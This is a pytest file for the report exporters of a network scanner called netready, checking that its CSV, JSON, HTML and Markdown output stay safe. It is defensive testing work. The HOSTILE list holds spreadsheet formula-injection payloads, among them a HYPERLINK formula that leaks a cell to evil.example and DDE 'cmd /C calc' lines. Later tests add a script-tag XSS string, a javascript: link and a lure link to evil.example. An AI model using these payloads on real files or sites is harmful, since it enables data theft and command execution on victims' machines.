"""Reports: CSV (formula-injection safe), summary CSV, JSON, HTML; the export command."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from netready import cli
from netready.findings import Finding, Status
from netready.report import ExportFormat, ScanInfo, export_report, write_report
from netready.report.csv import BYTE_ORDER_MARK, COLUMNS, CsvWriter, spreadsheet_safe
from netready.report.html import HANDOUT_PROBLEMS, render_html
from netready.report.json import write_json
from netready.report.jsonl import JsonLinesWriter
from netready.report.markdown import inline_to_html, markdown_to_html
from netready.report.model import Light, Tally, family_of, iso_utc, summarise
from netready.report.summary import COLUMNS as SUMMARY_COLUMNS
from netready.report.summary import write_summary_csv
from netready.store import Store

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '=cmd|" /C calc"!A0',
    "x;=1+1",  # a later cell start after a delimiter that is not escaped
    'a","=1+1',  # a quote that would close the cell early
]
STARTED = datetime(2024, 5, 1, 12, 0, 0, 123456, tzinfo=UTC)
SCAN = ScanInfo(scan_id=42, started_at=STARTED, state="completed", targets=("a.example",))


def hostile_finding(text: str, status: Status = Status.FAIL) -> Finding:
    """Server-controlled text in every column a server can reach."""
    return Finding(
        target=text,
        subject=text,
        check_id="tls.cert.hostname",
        status=status,
        summary=text,
        evidence={"subject": text, "headers": [text]},
    )


def read_csv(text: str, delimiter: str = ",") -> list[list[str]]:
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


# --- formula injection --------------------------------------------------------------------


@pytest.mark.parametrize("cell", [*HOSTILE, *(start + "x" for start in FORMULA_STARTS)])
def test_formula_like_cells_are_defused(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    if cell.lstrip(" ").startswith(FORMULA_STARTS):
        assert safe == "'" + cell
    else:
        assert safe == cell


@pytest.mark.parametrize("cell", ["example.org resolves", "2001:db8::1", "{}", "", "a=b", "x-y"])
def test_ordinary_cells_are_untouched(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_csv_cell_a_spreadsheet_reads_starts_like_a_formula(delimiter: str) -> None:
    stream = io.StringIO(newline="")
    writer = CsvWriter(stream, scan=SCAN, delimiter=delimiter)
    for text in HOSTILE:
        writer.write(hostile_finding(text))
    rows = read_csv(stream.getvalue(), delimiter)
    assert len(rows) == 1 + len(HOSTILE)
    for row, text in zip(rows[1:], HOSTILE, strict=True):
        assert len(row) == len(COLUMNS), row  # no cell split or merged by hostile text
        cells = dict(zip(COLUMNS, row, strict=True))
        for column in ("target", "subject", "summary"):
            assert cells[column].lstrip("'") == text
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), cell
        evidence = json.loads(cells["evidence"])
        assert evidence["subject"] == text


def test_every_cell_is_quoted_so_separators_inside_stay_inside() -> None:
    stream = io.StringIO(newline="")
    CsvWriter(stream, scan=SCAN, delimiter=";").write(hostile_finding("x;=1+1"))
    lines = stream.getvalue()[1:].split("\r\n")
    assert all(cell.startswith('"') for cell in lines[1].split('";"')[:1])
    assert lines[1].count('"') % 2 == 0


# --- the findings CSV ---------------------------------------------------------------------


def test_csv_starts_with_a_bom_and_the_documented_header() -> None:
    stream = io.StringIO(newline="")
    CsvWriter(stream, scan=SCAN)
    assert stream.getvalue().startswith(BYTE_ORDER_MARK)
    assert read_csv(stream.getvalue())[0] == list(COLUMNS)
    assert stream.getvalue().endswith("\r\n")


def test_csv_row_has_scan_time_in_utc_title_family_and_verify_command() -> None:
    stream = io.StringIO(newline="")
    local = STARTED.astimezone(timezone(timedelta(hours=2)))
    writer = CsvWriter(stream, scan=ScanInfo(scan_id=7, started_at=local))
    writer.write(
        Finding(
            "example.org",
            "www.example.org [2001:db8::10]:443",
            "tls.protocol.tls1_0",
            Status.WARNING,
            "TLS 1.0 is accepted.",
            {"accepted": True},
        )
    )
    row = dict(zip(COLUMNS, read_csv(stream.getvalue())[1], strict=True))
    assert row["scan_id"] == "7"
    assert row["scan_started_at"] == "2024-05-01T12:00:00Z"
    assert row["family"] == "tls"
    assert row["check_title"] == "TLS 1.0 is switched off"
    assert row["status"] == "warning"
    assert json.loads(row["evidence"]) == {"accepted": True}
    assert row["verify_command"].startswith("openssl s_client -connect '[2001:db8::10]:443'")


def test_a_live_csv_without_scan_facts_still_has_a_time() -> None:
    stream = io.StringIO(newline="")
    CsvWriter(stream).write(Finding("a.example", "a.example", "dns.resolve", Status.PASS, "ok"))
    row = dict(zip(COLUMNS, read_csv(stream.getvalue())[1], strict=True))
    assert row["scan_id"] == ""
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row["scan_started_at"])


def test_csv_refuses_other_delimiters() -> None:
    with pytest.raises(ValueError, match="delimiter"):
        CsvWriter(io.StringIO(), delimiter="\t")


def test_non_ascii_text_is_kept_as_utf8() -> None:
    stream = io.BytesIO()
    finding = Finding("bücher.example", "bücher.example", "dns.resolve", Status.PASS, "ok – é")
    write_report(stream, [finding], report_format=ExportFormat.CSV, scan=SCAN)
    data = stream.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")
    assert "bücher.example".encode() in data


# --- the summary CSV ----------------------------------------------------------------------


def test_summary_csv_counts_each_target_and_lists_those_without_findings() -> None:
    findings = [
        Finding("a.example", "a.example", "dns.resolve", Status.PASS, "ok"),
        Finding("a.example", "a.example", "dnssec.status", Status.FAIL, "insecure"),
        Finding("a.example", "a.example", "ipv6.web.aaaa", Status.INFO, "none"),
        Finding("=b.example", "=b.example", "dns.resolve", Status.ERROR, "timeout"),
    ]
    stream = io.StringIO(newline="")
    scan = ScanInfo(scan_id=3, started_at=STARTED, targets=("a.example", "c.example"))
    write_summary_csv(stream, findings, scan=scan, delimiter=";")
    rows = [
        dict(zip(SUMMARY_COLUMNS, row, strict=True)) for row in read_csv(stream.getvalue(), ";")[1:]
    ]
    assert [row["target"] for row in rows] == ["a.example", "c.example", "'=b.example"]
    first = rows[0]
    assert (first["fail"], first["pass"], first["info"], first["findings"]) == ("1", "1", "1", "3")
    assert (first["rating"], first["verdict"], first["passing_percent"]) == (
        "red",
        "Action needed",
        "50",
    )
    assert (rows[1]["rating"], rows[1]["verdict"], rows[1]["passing_percent"]) == (
        "grey",
        "No findings",
        "",
    )
    assert (rows[2]["rating"], rows[2]["verdict"]) == ("grey", "Not fully tested")
    assert first["scan_started_at"] == "2024-05-01T12:00:00Z"


# --- tallies and lights -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("statuses", "light"),
    [
        ([Status.PASS, Status.INFO], Light.GREEN),
        ([Status.PASS, Status.WARNING, Status.ERROR], Light.AMBER),
        ([Status.PASS, Status.ERROR], Light.GREY),  # an error is never shown as a pass
        ([Status.WARNING, Status.FAIL], Light.RED),
        ([], Light.GREY),
    ],
)
def test_traffic_light(statuses: list[Status], light: Light) -> None:
    tally = Tally()
    for status in statuses:
        tally.add(status)
    assert tally.light is light


def test_passing_share_leaves_infos_out_and_counts_errors_as_not_passing() -> None:
    tally = Tally()
    for status in (Status.PASS, Status.PASS, Status.INFO, Status.ERROR, Status.FAIL):
        tally.add(status)
    assert tally.passing_percent == 50


def test_family_of_registered_and_not_yet_registered_ids() -> None:
    assert family_of("dot.available") == "resolver"
    assert family_of("dns.resolver.validating") == "resolver"
    assert family_of("future.check.id") == "future"  # a family not registered (yet)


def test_iso_utc_takes_naive_times_as_utc() -> None:
    assert iso_utc(datetime(2024, 5, 1, 12, 0, 0)) == "2024-05-01T12:00:00Z"
    assert iso_utc(None) == ""


def test_summarise_keeps_the_given_order() -> None:
    findings = [Finding("b", "b", "dns.resolve", Status.PASS, "ok")]
    assert [s.target for s in summarise(findings, targets=["a", "b"])] == ["a", "b"]


# --- JSON -----------------------------------------------------------------------------------


def test_json_report_has_the_scan_the_targets_and_every_finding_field() -> None:
    findings = [
        Finding("a.example", "a.example", "dns.resolve", Status.PASS, "ok", {"a": ["192.0.2.1"]}),
        hostile_finding('"}]},{"evil": 1'),
    ]
    stream = io.StringIO()
    write_json(stream, findings, scan=SCAN)
    report = json.loads(stream.getvalue())
    assert report["format"] == "netready-report"
    assert report["scan"]["id"] == 42
    assert report["scan"]["started_at"] == "2024-05-01T12:00:00Z"
    assert report["targets"][0]["target"] == "a.example"
    first, second = report["findings"]
    assert {"target", "subject", "check_id", "status", "summary", "evidence"} <= first.keys()
    assert first["evidence"] == {"a": ["192.0.2.1"]}
    assert first["family"] == "dns"
    assert second["summary"] == '"}]},{"evil": 1'
    assert Finding.from_json_dict(second) == findings[1]


def test_json_report_of_no_findings_is_valid() -> None:
    stream = io.StringIO()
    write_json(stream, [])
    assert json.loads(stream.getvalue())["findings"] == []


def test_json_lines_are_one_finding_per_line() -> None:
    stream = io.StringIO()
    writer = JsonLinesWriter(stream)
    writer.write(Finding("a.example", "a.example", "dns.resolve", Status.PASS, "line\nbreak"))
    lines = stream.getvalue().splitlines()
    assert len(lines) == 1
    assert json.loads(lines[0])["summary"] == "line\nbreak"


# --- HTML -----------------------------------------------------------------------------------

SCRIPT = '<script>alert("x")</script>'


def sample_findings() -> list[Finding]:
    return [
        Finding("a.example", "www.a.example [2001:db8::10]:443", "tls.protocol.tls1_0",
                Status.WARNING, "TLS 1.0 is accepted.", {}),
        Finding("a.example", "a.example", "dnssec.status", Status.FAIL, "insecure " + SCRIPT),
        Finding("a.example", "a.example", "dns.resolve", Status.PASS, "resolves"),
        Finding("b.example", "b.example", "dns.resolve", Status.ERROR, "timeout"),
        Finding(SCRIPT, SCRIPT, "dns.resolve", Status.PASS, SCRIPT, {"x": SCRIPT}),
    ]  # fmt: skip


def test_html_escapes_every_text_from_a_finding() -> None:
    html = render_html(sample_findings(), scan=SCAN)
    assert "<script>" not in html
    assert "&lt;script&gt;" in html


def test_html_has_a_cover_a_section_and_a_handout_per_target() -> None:
    html = render_html(sample_findings(), scan=SCAN)
    assert html.count('<h2 class="page">') == 3  # one section per target with findings
    assert html.count('<h1 class="page">') == 3  # one handout per target
    assert "Share passing per family" in html
    assert "Scan 42" in html


def test_traffic_lights_are_told_by_icon_and_word_not_colour_alone() -> None:
    html = render_html(sample_findings(), scan=SCAN)
    assert '<p class="light red">\u2716 Action needed</p>' in html
    assert '<p class="light grey">? Not fully tested</p>' in html
    assert "\u2714 Good" in html


def test_html_shows_the_advice_and_the_verify_command() -> None:
    html = render_html(sample_findings(), scan=SCAN)
    assert "What to do" in html
    assert "Why it matters." in html
    assert "ssl_protocols TLSv1.2 TLSv1.3;" in html  # the nginx fix
    assert "openssl s_client -connect &#x27;[2001:db8::10]:443&#x27;" in html
    assert 'href="https://www.rfc-editor.org/rfc/rfc8996"' in html


def test_infos_are_worth_knowing_without_fixes() -> None:
    info = Finding("a.example", "a.example", "ipv6.web.reachable", Status.INFO, "no AAAA")
    html = render_html([info])
    assert "Worth knowing" in html
    assert "What to do" not in html
    assert "listen [::]:80;" not in html  # the fix for an unreachable site is not shown
    assert "dig +short a.example AAAA" in html


def test_a_handout_lists_at_most_a_few_problems() -> None:
    findings = [
        Finding("a.example", "a.example", check_id, Status.FAIL, "bad")
        for check_id in ("tls.protocol.ssl2", "tls.protocol.ssl3", "tls.ciphers",
                         "tls.cert.trusted", "tls.cert.hostname", "tls.cert.expiry",
                         "tls.cert.key")
    ]  # fmt: skip
    html = render_html(findings)
    handout = html[html.index('<h1 class="page">') :]
    assert handout.count("<li>") == HANDOUT_PROBLEMS
    assert "and 2 more" in handout


def test_an_empty_report_is_still_a_document() -> None:
    html = render_html([])
    assert html.startswith("<!DOCTYPE html>")
    assert html.rstrip().endswith("</html>")


# --- Markdown ---------------------------------------------------------------------------------


def test_markdown_blocks() -> None:
    html = markdown_to_html("Intro `x` and **b**.\n\n- one\n  more\n- two\n\n```\n<a> & b\n```\n")
    assert html == (
        "<p>Intro <code>x</code> and <b>b</b>.</p>\n<ul><li>one more</li><li>two</li></ul>\n"
        "<pre><code>&lt;a&gt; &amp; b</code></pre>"
    )


def test_markdown_lets_no_markup_or_odd_links_through() -> None:
    assert inline_to_html("<b>x</b>") == "&lt;b&gt;x&lt;/b&gt;"
    assert inline_to_html("[x](javascript:alert(1))") == "[x](javascript:alert(1))"
    assert inline_to_html('[x](https://e.example/?a=1&b="2")').startswith(
        '<a href="https://e.example/?a=1&amp;b=&quot;2&quot;"'
    )
    assert inline_to_html("a ` b") == "a ` b"


# --- export_report / write_report / netready export -----------------------------------------


@pytest.mark.parametrize("report_format", [f for f in ExportFormat if not f.binary])
def test_every_text_format_writes_a_file(tmp_path: Path, report_format: ExportFormat) -> None:
    path = tmp_path / f"report{report_format.suffix}"
    export_report(path, sample_findings(), report_format=report_format, scan=SCAN)
    assert path.stat().st_size > 100
    assert list(tmp_path.iterdir()) == [path]  # nothing partial left beside it


def test_a_failed_export_leaves_no_file(tmp_path: Path) -> None:
    def findings_until_the_store_fails() -> Iterator[Finding]:
        yield Finding("a.example", "a.example", "dns.resolve", Status.PASS, "ok")
        raise RuntimeError("the database went away")

    path = tmp_path / "report.csv"
    with pytest.raises(RuntimeError):
        export_report(path, findings_until_the_store_fails(), report_format=ExportFormat.CSV)
    assert list(tmp_path.iterdir()) == []


@pytest.fixture
def database(tmp_path: Path) -> tuple[Path, int]:
    path = tmp_path / "history.db"
    with Store(path) as store:
        scan_id = store.create_scan(
            targets=[("a.example", "domain"), ("b.example", "domain")], families=None, config={}
        )
        findings = [f for f in sample_findings() if f.target in ("a.example", "b.example")]
        store.record(scan_id, findings=findings, finished_targets=["a.example", "b.example"])
    return path, scan_id


def test_export_command_writes_a_semicolon_csv(database: tuple[Path, int], tmp_path: Path) -> None:
    path, scan_id = database
    output = tmp_path / "out.csv"
    argv = ["export", str(scan_id), "--db", str(path), "--output", str(output), "--delimiter", ";"]
    assert cli.main(argv) == cli.EXIT_OK
    rows = read_csv(output.read_text(encoding="utf-8"), ";")
    assert len(rows) == 5
    assert rows[1][0] == str(scan_id)


def test_export_command_writes_the_summary_to_stdout(
    database: tuple[Path, int], capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    path, scan_id = database
    argv = ["export", str(scan_id), "--db", str(path), "--format", "summary-csv"]
    assert cli.main(argv) == cli.EXIT_OK
    text = capsysbinary.readouterr().out.decode("utf-8")
    assert [row[2] for row in read_csv(text)[1:]] == ["a.example", "b.example"]


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--format", "html", "--delimiter", ";"], "--delimiter applies"),
        (["--output", "/nonexistent-dir/x.csv"], "cannot write"),
    ],
)
def test_export_command_refuses_bad_usage(
    database: tuple[Path, int],
    capsys: pytest.CaptureFixture[str],
    extra: list[str],
    message: str,
) -> None:
    path, scan_id = database
    assert cli.main(["export", str(scan_id), "--db", str(path), *extra]) == cli.EXIT_BAD_INPUT
    assert message in capsys.readouterr().err


def test_export_of_an_unknown_scan_is_bad_input(
    database: tuple[Path, int], capsys: pytest.CaptureFixture[str]
) -> None:
    path, _ = database
    assert cli.main(["export", "999", "--db", str(path)]) == cli.EXIT_BAD_INPUT
    assert "no scan 999" in capsys.readouterr().err


def test_server_text_in_the_advice_cannot_put_a_link_into_the_report() -> None:
    # Given text netready does not control (a subject), filled into the advice's Markdown
    lure = "[update now](https://evil.example/fix)"
    finding = Finding("example.org", lure, "dnssec.status", Status.FAIL, "insecure")
    # When the HTML report shows its advice
    html = render_html([finding], scan=SCAN)
    # Then the text is there, but as text, and the advice's own reference links remain
    assert "update now" in html
    assert 'href="https://evil.example' not in html
    assert '<a href="https://' in html
